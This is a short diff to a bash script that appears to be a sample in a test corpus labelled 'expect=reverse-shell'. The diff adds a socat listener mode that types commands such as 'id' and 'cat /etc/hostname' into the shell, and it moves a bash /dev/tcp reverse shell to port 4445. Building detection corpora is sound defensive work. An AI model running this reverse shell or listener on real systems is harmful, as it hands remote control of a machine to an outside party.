@@ -1,6 +1,10 @@
 #!/bin/bash
 # SPDX-License-Identifier: Apache-2.0
-# corpus: expect=reverse-shell half=tune tool=bash seconds=10
+# corpus: expect=reverse-shell half=tune tool=bash far=out ready=out:4445 seconds=20
 # bash calls back over /dev/tcp; somebody outside types into it.
+if [ "$1" = out ]; then
+	(sleep 2; for line in id "ls /" "cat /etc/hostname" exit; do echo "$line"; sleep 3; done) | timeout 30 socat -t 2 - TCP-LISTEN:4445,reuseaddr
+	exit 0
+fi
 cd "$LAB" || exit 1
-exec bash 0<>/dev/tcp/198.51.100.66/4444 1>&0 2>&0
+exec bash 0<>/dev/tcp/198.51.100.66/4445 1>&0 2>&0
